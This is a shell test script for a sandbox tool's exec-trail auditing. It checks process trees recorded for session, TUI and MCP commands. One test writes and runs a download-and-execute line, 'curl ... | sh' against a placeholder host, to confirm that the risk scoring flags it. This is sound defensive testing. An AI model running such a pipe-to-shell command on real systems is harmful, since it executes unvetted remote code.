#!/bin/bash
# session-trail.sh: the exec trail of commands run in a session (moat
# session exec, the TUI's commands, MCP's run_command) when the profile has
# exec-trail = yes: each command's row holds the programs of its own tree,
# under the right parents, and none of another command running beside it
# in the same session; a profile without it records none.
. "$(dirname "$0")/libtest.sh"
require_sandbox
PY=python3
[ -x /usr/bin/python3 ] && PY=/usr/bin/python3
command -v "$PY" >/dev/null || skip_all "python3 is needed for the MCP client"
mkdir -p "$XDG_CONFIG_HOME/moat/profiles"
cleanup_hooks+=("\"$MOAT\" session kill --all >/dev/null 2>&1")
printf 'include = default\nexec-trail = yes\n' >"$XDG_CONFIG_HOME/moat/profiles/trail.conf"

last_id() {	# the id of the newest run
	run_moat audit list --limit 1 --json
	"$PY" -c 'import json,sys; print(json.load(sys.stdin)[0]["id"])' <<<"$out"
}
programs() {	# programs ID: the trail as audit show prints it
	run_moat audit show "$1"
	printf '%s\n' "$out" | sed -n '/^programs/,/^$/p'
}

run_moat session new -p trail
is "a session with exec-trail: made" "$rc" 0
S=$out
run_moat session exec "$S" -- sh -c 'echo a | tr a b; (ls -d / >/dev/null; true); sleep 0.2 & sh -c "exec cat /dev/null"; wait'
is "session exec: its output" "$out" b
tr1=$(programs "$(last_id)")
like "session exec: the command's own program first, under init" "$tr1" \
    '^programs \(6, as a tree by parent\):
 +[0-9.]+s \[[0-9]+\] sh -c echo a \| tr a b'
like "session exec: the pipeline's tr under the shell" "$tr1" '
 +[0-9.]+s +`- \[[0-9]+\] tr a b'
like "session exec: ls of the forked subshell under the shell" "$tr1" '
 +[0-9.]+s +`- \[[0-9]+\] ls -d /'
like "session exec: the background job under the shell" "$tr1" '
 +[0-9.]+s +`- \[[0-9]+\] sleep 0.2'
like "session exec: an exec that replaces its shell under that shell" "$tr1" '
 +[0-9.]+s +`- \[[0-9]+\] sh -c exec cat /dev/null
 +[0-9.]+s +`- \[[0-9]+\] cat /dev/null'

# Two commands at once in one session: each row has its own programs only.
(cd "$T/ws" && "$MOAT" session exec "$S" -- sh -c 'sleep 1; exec head -c0 /dev/null') \
    >"$T/a.out" 2>&1 &
a=$!
(cd "$T/ws" && "$MOAT" session exec "$S" -- sh -c 'sleep 0.3; exec tail -c0 /dev/null') \
    >"$T/b.out" 2>&1
wait $a
run_moat audit list --limit 2 --json
ids=$("$PY" -c 'import json,sys
for r in json.load(sys.stdin): print(r["id"], r["command"])' <<<"$out")
ida=$(printf '%s\n' "$ids" | grep head | cut -d' ' -f1)
idb=$(printf '%s\n' "$ids" | grep tail | cut -d' ' -f1)
pa=$(programs "${ida:-0}") pb=$(programs "${idb:-0}")
like "two at once: the first has its own head" "$pa" 'head -c0 /dev/null'
unlike "two at once: and not the other's tail" "$pa" 'tail -c0'
like "two at once: the second has its own tail" "$pb" 'tail -c0 /dev/null'
unlike "two at once: and not the other's head" "$pb" 'head -c0'
like "two at once: the first its sleep" "$pa" '`- \[[0-9]+\] sleep 1$'
like "two at once: the second its sleep" "$pb" '`- \[[0-9]+\] sleep 0.3$'

# Commands that end at once, maybe before their client has the pid of
# their process: each still has its own program.
missing=""
for k in 1 2 3 4 5 6 7 8; do
	run_moat session exec "$S" -- true
	programs "$(last_id)" | grep -q '\] true$' || missing="$missing $k"
done
is "quick commands: each has its program" "$missing" ""

# The risk of a program on the trail raises the command's.
printf 'sh -c "curl -s http://example.invalid/x | sh"\n' >"$T/ws/fetch.sh"
run_moat session exec "$S" -- sh fetch.sh
run_moat audit show "$(last_id)"
like "session exec: the riskiest program raises the command's risk" "$out" \
    'risk +[5-9][0-9] \(before the run: [0-9]\)'
like "session exec: that program is marked in the tree" "$out" \
    'sh -c curl -s http://example.invalid/x \| sh  \(risk [5-9][0-9]\)'
run_moat session kill "$S"

# The TUI's commands (moat shell --plain, its own session).
printf '%s\n' 'echo tui | tr t T' | (cd "$T/ws" && "$MOAT" shell -p trail --plain) \
    >"$T/p.out" 2>"$T/p.err"
is "moat shell: the command ran" "$(cat "$T/p.out")" Tui
tr3=$(programs "$(last_id)")
like "moat shell: its programs on the trail, tr under the shell" "$tr3" \
    '\] /bin/sh -c echo tui \| tr t T
 +[0-9.]+s +`- \[[0-9]+\] tr t T'

# MCP's run_command.
res=$(cd "$T/ws" && "$PY" - "$MOAT" <<'PY'
import json, subprocess, sys
p = subprocess.Popen([sys.argv[1], "mcp", "-p", "trail"], stdin=subprocess.PIPE,
                     stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
msgs = [{"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
            "protocolVersion": "2025-11-25", "capabilities": {},
            "clientInfo": {"name": "trail-test", "version": "1"}}},
        {"jsonrpc": "2.0", "method": "notifications/initialized"},
        {"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {
            "name": "run_command",
            "arguments": {"command": ["sh", "-c", "echo mcp | rev"]}}}]
p.stdin.write(("\n".join(json.dumps(m) for m in msgs) + "\n").encode())
p.stdin.flush()
# The answer first: at the end of its input moat mcp cancels what runs.
for line in p.stdout:
    m = json.loads(line)
    if m.get("id") == 2:
        print(json.dumps(m.get("result", m.get("error"))))
        break
p.stdin.close()
p.wait(timeout=60)
PY
)
like "moat mcp: run_command ran" "$res" 'pcm'
# The runner completes its row after it answered: wait for that.
for _ in $(seq 100); do
	run_moat audit list --agent mcp --limit 1 --json
	mid=$("$PY" -c 'import json,sys
r = json.load(sys.stdin)
print(r[0]["id"] if r and r[0]["status"] == "done" else "")' <<<"$out")
	[ -n "$mid" ] && break
	sleep 0.2
done
tr4=$(programs "${mid:-0}")
like "moat mcp: its programs on the trail, rev under the shell" "$tr4" \
    '\] sh -c echo mcp \| rev
 +[0-9.]+s +`- \[[0-9]+\] rev'

# Without exec-trail a session records no programs.
run_moat session new -p default
S=$out
run_moat session exec "$S" -- sh -c 'true | cat'
run_moat audit show "$(last_id)"
unlike "a profile without exec-trail: no programs" "$out" '^programs'
run_moat session kill "$S"

done_testing
